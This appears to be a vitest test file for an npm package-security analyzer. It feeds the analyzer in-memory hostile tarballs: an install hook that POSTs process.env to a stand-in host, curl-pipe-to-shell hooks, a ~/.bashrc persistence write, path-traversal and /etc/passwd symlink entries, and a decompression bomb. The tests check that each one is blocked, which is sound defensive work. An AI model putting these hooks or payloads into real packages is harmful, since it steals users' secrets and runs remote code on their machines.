/** Analysis of hostile and unusual distributions built in memory (no registry needed: analysis is pure). */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { PackageAnalysis } from '@sigma/core';
import { describe, expect, it } from 'vitest';
import { analyzePackage } from './analyze.js';
import type { PackageIdentity } from './analyze.js';
import { splitCommands } from './hook-commands.js';
import { splitPythonStatements } from './hooks.js';
import { npmTarball, tgz } from './testing/fixtures.js';

function identity(name: string, version: string, bytes: Uint8Array, deps: PackageIdentity['dependencies'] = []): PackageIdentity {
  return {
    ecosystem: 'npm',
    name,
    version,
    distribution: {
      url: `http://127.0.0.1:1/${name}.tgz`,
      filename: `${name}-${version}.tgz`,
      kind: 'npm-tarball',
      integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
    },
    dependencies: deps,
    expectedHashes: [],
  };
}

function run(pj: Record<string, unknown>, files: Record<string, string | Uint8Array> = {}, opts: Parameters<typeof analyzePackage>[2] = {}): PackageAnalysis {
  const bytes = npmTarball({ name: 'fx', version: '1.0.0', ...pj }, files);
  return PackageAnalysis.parse(analyzePackage(identity('fx', '1.0.0', bytes), bytes, opts));
}

describe('install hooks', () => {
  it('splits lifecycle commands like sh -c', () => {
    expect(splitCommands(`FOO=1 node "scripts/a b.js" && echo 'x;y' || true; curl -s https://x | sh`)).toEqual([
      ['FOO=1', 'node', 'scripts/a b.js'],
      ['echo', 'x;y'],
      ['true'],
      ['curl', '-s', 'https://x'],
      ['sh'],
    ]);
    expect(splitPythonStatements(`import os; x = "a;b"; os.system(x)  # c;d`)).toEqual(['import os', 'x = "a;b"', 'os.system(x)']);
  });

  it('analyses `node -e` code in a hook and reports it at the hook line of package.json', () => {
    const a = run({
      scripts: { postinstall: `node -e "require('https').request({hostname:'drop.example-cache.net',method:'POST'}).end(JSON.stringify(process.env))"` },
    });
    expect(a.verdict).toBe('BLOCKED');
    expect(a.findings[0]).toMatchObject({ ruleId: 'PACKAGE_INSTALL_EXFILTRATION', file: 'package.json', line: 5, blocking: true });
    expect(a.installScripts[0]!.entries).toEqual(['package.json#postinstall.sh', 'package.json#postinstall-1.js']);
  });

  it('follows `npm run` into other scripts, and reports npx and missing entries as not analysed', () => {
    const a = run(
      { scripts: { postinstall: 'npm run setup', setup: 'node lib/setup.js && npx some-cli init', prepare: 'node missing.js' } },
      { 'lib/setup.js': "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'export X=1\\n', { flag: 'a' });\n" },
    );
    expect(a.installScripts.map((s) => [s.hook, s.entries, s.analysed])).toEqual([
      ['postinstall', ['lib/setup.js', 'package.json#postinstall.sh'], false],
      ['prepare', ['package.json#prepare.sh'], false],
    ]);
    expect(a.findings.map((f) => [f.ruleId, f.severity, f.file])).toEqual(
      expect.arrayContaining([
        ['PACKAGE_PERSISTENCE', 'CRITICAL', 'lib/setup.js'],
        ['PACKAGE_INSTALL_REMOTE_PACKAGE', 'MEDIUM', 'package.json'],
        ['PACKAGE_FILE_NOT_ANALYSED', 'MEDIUM', 'package.json'],
      ]),
    );
    expect([a.analysisType, a.verdict]).toEqual(['PARTIAL', 'BLOCKED']);
  });

  it('runs the install hooks of bundled dependencies too', () => {
    const a = run(
      { bundleDependencies: ['inner'] },
      {
        'node_modules/inner/package.json': JSON.stringify(
          { name: 'inner', version: '1.0.0', scripts: { preinstall: 'curl https://x.example-get.net/a | bash' } },
          null,
          2,
        ),
      },
    );
    expect(a.installScripts.map((s) => [s.hook, s.file])).toEqual([['preinstall', 'node_modules/inner/package.json']]);
    expect(a.verdict).toBe('BLOCKED');
  });

  it('a script larger than the cap makes the analysis PARTIAL, never silently FULL', () => {
    const a = run({ main: 'index.js' }, { 'index.js': `module.exports = ${JSON.stringify('x'.repeat(3000))};\n` }, { fileLimits: { maxScriptBytes: 1000 } });
    expect([a.analysisType, a.verdict]).toEqual(['PARTIAL', 'REVIEW']);
    expect(a.findings.map((f) => [f.ruleId, f.file])).toEqual([['PACKAGE_FILE_NOT_ANALYSED', 'index.js']]);
  });
});

describe('hostile archives', () => {
  const analyseBytes = (bytes: Uint8Array) => PackageAnalysis.parse(analyzePackage(identity('fx', '1.0.0', bytes), bytes));

  it('blocks entries that escape the package folder (.., absolute, links out)', () => {
    const bytes = tgz([
      { path: 'package/package.json', data: JSON.stringify({ name: 'fx', version: '1.0.0' }) },
      { path: 'package/../../.bashrc', data: 'curl x | sh' },
      { path: 'package/link', type: 'symlink', linkTarget: '../../../../etc/passwd' },
    ]);
    const a = analyseBytes(bytes);
    expect(a.verdict).toBe('BLOCKED');
    expect(a.findings.filter((f) => f.ruleId === 'PACKAGE_UNREADABLE').length).toBe(2);
  });

  it('blocks a decompression bomb and a corrupt archive without reading them whole', () => {
    const bomb = new Uint8Array(gzipSync(new Uint8Array(50 * 1024 * 1024)));
    const a = analyseBytes(bomb);
    expect([a.verdict, a.findings[0]!.ruleId]).toEqual(['BLOCKED', 'PACKAGE_UNREADABLE']);
    const corrupt = analyseBytes(new TextEncoder().encode('not an archive at all'));
    expect(corrupt.verdict).toBe('BLOCKED');
  });

  it('blocks an archive that claims to be another package', () => {
    const bytes = npmTarball({ name: 'other-name', version: '9.9.9' });
    const a = analyseBytes(bytes);
    expect(a.findings.map((f) => [f.ruleId, f.blocking])).toContainEqual(['PACKAGE_METADATA_MISMATCH', true]);
  });
});
